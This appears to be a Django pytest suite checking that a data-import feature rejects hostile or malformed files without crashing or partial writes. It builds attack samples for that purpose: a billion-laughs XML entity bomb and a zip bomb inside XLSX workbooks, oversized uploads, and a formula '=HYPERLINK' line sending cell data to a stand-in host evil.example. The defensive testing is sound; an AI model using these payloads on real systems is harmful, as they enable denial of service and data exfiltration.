"""Bad or hostile files through the import, by command and by browser upload.

Each: a clear message naming the problem, or a correct import; never a crash (500), a hang or a partial write.
"""

from __future__ import annotations

import csv
import html
import io
import struct
import time
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.http.multipartparser import MultiPartParser
from django.urls import reverse
from django.utils import translation

from clients.models import Client, Provider, Staff
from exchange.services import dataset_export, dataset_import
from plans.models import Contact
from tests.conftest import SignedInClient
from tests.exchange.exchange_helpers import (
    HEADERS,
    client_row,
    contact_row,
    read_rows,
    small_folder,
    staff_row,
    write_rows,
)

from .import_data import big_folder

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english_and_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    with translation.override("en"):
        yield


@pytest.fixture
def manager_client(client, manager):
    client.cookies["django_language"] = "en"
    client.force_login(manager)
    return client


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _recode(folder: Path, name: str, encoding: str) -> None:
    path = folder / f"{name}.csv"
    path.write_bytes(path.read_text(encoding="utf-8").encode(encoding))


def _nothing_written() -> None:
    assert Provider.objects.filter(code="LSK", name="Latvijas Sarkanais Krusts").count() <= 1  # the fixture's own
    assert Staff.objects.filter(staff_ref__in=["S1", "M1"]).count() == 0
    assert Client.objects.count() == 0
    assert Contact.objects.count() == 0


def _command_refuses(path: Path) -> str:
    with pytest.raises(CommandError) as refused:
        call_command("import_dataset", str(path))
    message = str(refused.value)
    assert "nothing was imported" in message
    return message


def _upload(manager_client, files: list[tuple[str, bytes]]):
    uploads = [SimpleUploadedFile(name, content) for name, content in files]
    response = manager_client.post(reverse("exchange:import"), {"files": uploads})
    assert response.status_code == 200
    return html.unescape(response.content.decode())


def _folder_files(folder: Path) -> list[tuple[str, bytes]]:
    return [(p.name, p.read_bytes()) for p in sorted(folder.glob("*.csv"))]


# --- not CSV, wrong encoding ---------------------------------------------------------------------------------


def test_a_png_renamed_csv_is_refused_by_the_command_naming_the_file(tmp_path):
    folder = small_folder(tmp_path)
    (folder / "clients.csv").write_bytes(_png())
    assert "clients:-:-: The file is not UTF-8 text" in _command_refuses(folder)
    _nothing_written()


def test_a_png_renamed_csv_is_refused_in_the_browser_naming_the_file(manager_client, tmp_path):
    folder = small_folder(tmp_path)
    files = [(n, _png() if n == "clients.csv" else c) for n, c in _folder_files(folder)]
    assert "'clients.csv' is not a CSV text file." in _upload(manager_client, files)
    _nothing_written()


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16"])
def test_a_csv_not_in_utf8_is_refused_by_the_command_naming_the_file(tmp_path, encoding):
    folder = small_folder(tmp_path, staff=[HEADERS_ROW_LATIN])
    _recode(folder, "staff", encoding)
    assert "staff:-:-: The file is not UTF-8 text; save it as CSV UTF-8." in _command_refuses(folder)
    _nothing_written()


@pytest.mark.parametrize(("encoding", "message"), [("latin-1", "not UTF-8 text"), ("utf-16", "is not a CSV text")])
def test_a_csv_not_in_utf8_is_refused_in_the_browser(manager_client, tmp_path, encoding, message):
    folder = small_folder(tmp_path, staff=[HEADERS_ROW_LATIN])
    _recode(folder, "staff", encoding)
    page = _upload(manager_client, _folder_files(folder))
    assert message in page
    assert "staff" in page
    assert reverse("exchange:import_confirm") not in page
    _nothing_written()


HEADERS_ROW_LATIN = {
    "staff_ref": "S1",
    "first_name": "José",
    "last_name": "Müller",
    "role": "social_worker",
    "provider": "LSK",
    "email": "",
}


# --- 50 MB ---------------------------------------------------------------------------------------------------


def _body_parses(monkeypatch) -> list[int]:
    """Records each parse of a multipart body (which reads it whole, to memory or temporary files)."""

    parses: list[int] = []
    original = MultiPartParser.parse

    def parse(self):
        parses.append(1)
        return original(self)

    monkeypatch.setattr(MultiPartParser, "parse", parse)
    return parses


def test_a_50_mb_upload_is_refused_by_its_size_before_it_is_read(manager_client, monkeypatch):
    parses = _body_parses(monkeypatch)
    content = b"contact_ref,date,staff_ref,family_ref,client_refs,form,duration_minutes,topics,note\r\n"
    content += b"K1,2022-02-01,M1,,C1,in_person,60,health," + b"x" * (50 * 1024 * 1024) + b"\r\n"
    began = time.monotonic()
    response = manager_client.post(reverse("exchange:import"), {"files": [SimpleUploadedFile("contacts.csv", content)]})
    assert time.monotonic() - began < 30
    assert response.status_code == 413
    page = html.unescape(response.content.decode())
    assert "The files are too large: at most 20" in page
    assert 'enctype="multipart/form-data"' in page  # the import page, to try again
    assert parses == []
    _nothing_written()


def test_a_body_declared_larger_than_the_limit_is_refused_before_the_csrf_check_reads_it(
    manager, monkeypatch, settings
):
    settings.IMPORT_MAX_UPLOAD_BYTES = 1024
    parses = _body_parses(monkeypatch)
    browser = SignedInClient(enforce_csrf_checks=True)
    browser.force_login(manager)
    content = b"x" * (2 * 1024 * 1024)
    response = browser.post(reverse("exchange:import"), {"files": [SimpleUploadedFile("contacts.csv", content)]})
    assert response.status_code == 413
    assert parses == []


def test_an_upload_without_the_csrf_token_is_still_refused(manager, tmp_path):
    browser = SignedInClient(enforce_csrf_checks=True)
    browser.force_login(manager)
    uploads = [SimpleUploadedFile(n, c) for n, c in _folder_files(small_folder(tmp_path))]
    response = browser.post(reverse("exchange:import"), {"files": uploads})
    assert response.status_code == 403
    _nothing_written()


def test_an_upload_within_the_limit_still_needs_a_manager(client, social_worker, tmp_path):
    client.force_login(social_worker)
    uploads = [SimpleUploadedFile(n, c) for n, c in _folder_files(small_folder(tmp_path))]
    assert client.post(reverse("exchange:import"), {"files": uploads}).status_code == 403


# --- 500,000 columns, millions of rows, thousands of errors ---------------------------------------------------

WIDE_HEADER = "client_ref,first_name,last_name,provider," + ",".join(f"x{i}" for i in range(500_000))


def test_a_header_of_500000_columns_is_refused_in_the_browser_with_one_message(manager_client, tmp_path):
    folder = small_folder(tmp_path)
    wide = (WIDE_HEADER + "\r\nC1,Ahmad,Ahmadi,LSK\r\n").encode()
    files = [(n, wide if n == "clients.csv" else c) for n, c in _folder_files(folder)]
    began = time.monotonic()
    page = _upload(manager_client, files)
    assert time.monotonic() - began < 20
    assert page.count("The header has 500004 columns; a file of the format has at most 200.") == 1
    assert "Unknown column" not in page
    assert len(page) < 100_000
    _nothing_written()


def test_a_header_of_500000_columns_is_refused_by_the_command_with_one_message(tmp_path):
    folder = small_folder(tmp_path)
    (folder / "clients.csv").write_text(WIDE_HEADER + "\r\nC1,Ahmad,Ahmadi,LSK\r\n", encoding="utf-8")
    message = _command_refuses(folder)
    assert "clients:1:-: The header has 500004 columns" in message
    assert "Unknown column" not in message


def test_a_header_with_many_empty_cells_after_its_columns_is_read(tmp_path):
    folder = small_folder(tmp_path)
    rows = (folder / "staff.csv").read_text(encoding="utf-8").splitlines()
    rows[0] += "," * 1000
    (folder / "staff.csv").write_text("\r\n".join(rows) + "\r\n", encoding="utf-8")
    assert dataset_import(path=folder).errors == []


def test_an_upload_of_more_rows_than_the_limit_is_refused_with_one_message(manager_client, tmp_path, settings):
    settings.IMPORT_MAX_UPLOAD_ROWS = 5
    folder = small_folder(tmp_path, contacts=[contact_row(f"K{i}", date="17.05.2022") for i in range(6)])
    page = _upload(manager_client, _folder_files(folder))
    assert page.count("The file has more than 5 rows") == 1
    assert "17.05.2022" not in page  # the rows' own errors are not listed: the file is refused whole
    _nothing_written()


def test_a_million_blank_lines_in_an_upload_are_refused_by_the_row_limit(manager_client, tmp_path):
    folder = small_folder(tmp_path)
    files = [(n, c + b"\r\n" * 1_000_000 if n == "staff.csv" else c) for n, c in _folder_files(folder)]
    began = time.monotonic()
    page = _upload(manager_client, files)
    assert time.monotonic() - began < 20
    assert "The file has more than 500,000 rows" in page
    _nothing_written()


def test_a_workbook_sheet_of_more_rows_than_the_limit_is_refused(manager_client, tmp_path, settings):
    settings.IMPORT_MAX_UPLOAD_ROWS = 5
    folder = small_folder(tmp_path, contacts=[contact_row(f"K{i}") for i in range(6)])
    page = _upload(manager_client, [("records.xlsx", _workbook_of(folder))])
    assert page.count("The file has more than 5 rows") == 1
    _nothing_written()


def test_the_command_imports_files_longer_than_an_upload_may_be(tmp_path, settings):
    settings.IMPORT_MAX_UPLOAD_ROWS = 5
    folder = small_folder(tmp_path, contacts=[contact_row(f"K{i}") for i in range(6)])
    assert dataset_import(path=folder).errors == []
    assert Contact.objects.count() == 6


@pytest.mark.parametrize("name", ["contacts", "staff"])  # a streamed file and a file read whole
def test_the_command_refuses_a_file_of_more_rows_than_its_limit(tmp_path, settings, name):
    settings.IMPORT_MAX_ROWS = 5
    folder = small_folder(
        tmp_path,
        contacts=[contact_row(f"K{i}") for i in range(6)],
        staff=[staff_row("S1", "social_worker"), staff_row("M1", "mentor")]
        + [staff_row(f"X{i}", "mentor") for i in range(4)],
    )
    if name == "staff":
        write_rows(folder, "contacts", [contact_row("K1")], headers=HEADERS["contacts"])
    message = _command_refuses(folder)
    assert f"{name}:-:-: The file has more than 5 rows" in message
    _nothing_written()


def _many_bad_rows(tmp_path: Path, count: int) -> Path:
    return small_folder(tmp_path, contacts=[contact_row(f"K{i}", form="visit") for i in range(count)])


def test_the_import_page_lists_the_first_100_errors_and_counts_the_others(manager_client, tmp_path):
    page = _upload(manager_client, _folder_files(_many_bad_rows(tmp_path, 1334)))
    assert page.count('data-testid="error-row"') == 100
    assert "… and 1,234 more errors" in page


def test_the_command_prints_the_first_100_errors_and_counts_the_others(tmp_path):
    message = _command_refuses(_many_bad_rows(tmp_path, 1334))
    assert message.startswith("1334 error(s); nothing was imported.")
    assert message.count("contacts:") == 100
    assert message.rstrip().endswith("… and 1 234 more errors")


def test_every_error_is_listed_when_there_are_100(manager_client, tmp_path):
    page = _upload(manager_client, _folder_files(_many_bad_rows(tmp_path, 100)))
    assert page.count('data-testid="error-row"') == 100
    assert "more error" not in page


def test_a_50_mb_file_given_to_the_command_is_refused_with_a_message_not_a_crash(tmp_path):
    folder = small_folder(tmp_path)
    rows = read_rows(folder, "contacts")
    rows[0]["note"] = "x" * (50 * 1024 * 1024)
    write_rows(folder, "contacts", rows)
    began = time.monotonic()
    message = _command_refuses(folder)
    assert time.monotonic() - began < 120
    assert "contacts:-:-: The file is not valid CSV: field larger than field limit" in message
    _nothing_written()


# --- an XML bomb inside an XLSX ------------------------------------------------------------------------------

BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
    + ']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)


def _workbook_of(folder: Path) -> bytes:
    """The folder as a workbook, every cell a text cell (a formula typed as text stays text)."""
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for path in sorted(folder.glob("*.csv")):
        sheet = workbook.create_sheet(path.stem)
        with open(path, encoding="utf-8", newline="") as stream:
            for number, row in enumerate(csv.reader(stream), start=1):
                for column, value in enumerate(row, start=1):
                    cell = sheet.cell(row=number, column=column)
                    cell.value = value
                    cell.data_type = "s"
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def _with_bomb(xlsx: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = BOMB.encode()
            target.writestr(item, data)
    return out.getvalue()


def _with_sheet_xml(xlsx: bytes, name: str, xml: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        titles = openpyxl.load_workbook(io.BytesIO(xlsx), read_only=True).sheetnames
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == f"xl/worksheets/sheet{titles.index(name) + 1}.xml":
                data = xml
            target.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return out.getvalue()


def _zip_bomb(folder: Path, rows: int) -> bytes:
    """The contacts sheet replaced by `rows` identical rows: megabytes of XML that compress a thousand times."""
    cells = "".join(f'<c t="inlineStr"><is><t>{column}</t></is></c>' for column in HEADERS["contacts"])
    row = '<row><c t="inlineStr"><is><t>K</t></is></c>' + '<c t="inlineStr"><is><t>x</t></is></c>' * 8 + "</row>"
    xml = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f"<row>{cells}</row>{row * rows}</sheetData></worksheet>"
    )
    return _with_sheet_xml(_workbook_of(folder), "contacts", xml.encode())


def test_a_zip_bomb_workbook_is_refused_from_its_directory_before_it_is_read(manager_client, tmp_path, monkeypatch):
    bomb = _zip_bomb(small_folder(tmp_path), rows=20_000)  # 7 MB of XML in a few kB
    assert len(bomb) < 100_000
    loads: list[int] = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: loads.append(1))
    began = time.monotonic()
    page = _upload(manager_client, [("records.xlsx", bomb)])
    assert time.monotonic() - began < 5
    assert "The workbook's part 'xl/worksheets/sheet" in page
    assert "is compressed" in page
    assert loads == []
    _nothing_written()


def test_a_zip_bomb_workbook_is_refused_by_the_command(tmp_path):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_zip_bomb(small_folder(tmp_path), rows=20_000))
    assert "is compressed" in _command_refuses(path)


def test_a_workbook_larger_than_the_limit_once_unpacked_is_refused(manager_client, tmp_path, settings):
    settings.IMPORT_MAX_WORKBOOK_BYTES = 4096
    page = _upload(manager_client, [("records.xlsx", _workbook_of(small_folder(tmp_path)))])
    assert "The workbook holds more than 4.0\xa0KB of data once unpacked" in page
    _nothing_written()


def test_an_ordinary_workbook_of_thousands_of_rows_is_within_the_compression_limit(manager_client, tmp_path):
    contacts = [contact_row(f"K{i:05d}", note=f"Visit {i} to the clinic in Rīga.") for i in range(20_000)]
    xlsx = _workbook_of(small_folder(tmp_path, contacts=contacts))
    page = _upload(manager_client, [("records.xlsx", xlsx)])
    assert "Import preview" in page, page[:2000]


def test_a_renamed_file_that_is_not_a_zip_is_refused_as_not_a_workbook(manager_client):
    page = _upload(manager_client, [("records.xlsx", b"PK\x03\x04" + b"\x00" * 100)])
    assert "The file is not an XLSX workbook" in page


def test_openpyxl_reads_workbooks_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True


def test_an_xml_bomb_in_a_workbook_is_refused_by_the_command(tmp_path):
    path = tmp_path / "bomb.xlsx"
    path.write_bytes(_with_bomb(_workbook_of(small_folder(tmp_path))))
    began = time.monotonic()
    message = _command_refuses(path)
    assert time.monotonic() - began < 10
    assert "is not an XLSX workbook" in message or "could not be read" in message
    _nothing_written()


def test_an_xml_bomb_in_a_workbook_is_refused_in_the_browser(manager_client, tmp_path):
    began = time.monotonic()
    page = _upload(manager_client, [("records.xlsx", _with_bomb(_workbook_of(small_folder(tmp_path))))])
    assert time.monotonic() - began < 10
    assert "is not an XLSX workbook" in page or "could not be read" in page
    _nothing_written()


# --- formulas ------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_a_formula_is_stored_as_text_on_import_and_escaped_on_export(tmp_path):
    folder = small_folder(tmp_path, contacts=[contact_row("K1", note=FORMULA)])
    result = dataset_import(path=folder)
    assert result.errors == []
    assert Contact.objects.get().note == FORMULA
    out = tmp_path / "out"
    dataset_export(path=out)
    assert read_rows(out, "contacts")[0]["note"] == "'" + FORMULA
    dataset_export(path=tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["contacts"]
    cell = sheet.cell(row=2, column=HEADERS["contacts"].index("note") + 1)
    assert cell.data_type == "s"
    assert cell.value == FORMULA  # text with the quote prefix, no visible apostrophe (issue 18)
    assert cell.quotePrefix


def test_a_formula_in_an_uploaded_workbook_is_stored_as_text(manager_client, tmp_path):
    folder = small_folder(tmp_path, contacts=[contact_row("K1", note=FORMULA)])
    page = _upload(manager_client, [("records.xlsx", _workbook_of(folder))])
    assert "Import preview" in page
    manager_client.post(reverse("exchange:import_confirm"))
    assert Contact.objects.get().note == FORMULA


# --- a 100,000-character cell --------------------------------------------------------------------------------


def test_a_100000_character_name_is_refused_naming_the_cell(tmp_path):
    folder = small_folder(tmp_path, clients=[client_row("C1", first_name="A" * 100_000), client_row("C2")])
    message = _command_refuses(folder)
    assert "clients:2:first_name: At most 100 characters." in message
    _nothing_written()


def test_a_100000_character_note_is_stored_whole(tmp_path, manager_client):
    note = "Ā" * 100_000
    folder = small_folder(tmp_path, contacts=[contact_row("K1", note=note)])
    page = _upload(manager_client, _folder_files(folder))
    assert "Import preview" in page
    manager_client.post(reverse("exchange:import_confirm"))
    assert Contact.objects.get().note == note


# --- 100,000 rows --------------------------------------------------------------------------------------------


@pytest.mark.services
def test_100000_rows_with_a_bad_last_row_are_refused_whole_in_bounded_time(postgres, tmp_path):
    # About two minutes on two cores: every row is checked, so that every error is named; none is kept.
    folder = big_folder(tmp_path, clients=100_000, contacts=1)
    rows = read_rows(folder, "clients")
    rows[-1]["birth_date"] = "31.02.1990"  # no such day (Latvian dates are accepted, issue 18)
    write_rows(folder, "clients", rows)
    began = time.monotonic()
    result = dataset_import(path=folder)
    assert time.monotonic() - began < 300
    assert [(e.file, e.row, e.column) for e in result.errors] == [("clients", 100_001, "birth_date")]
    _nothing_written()
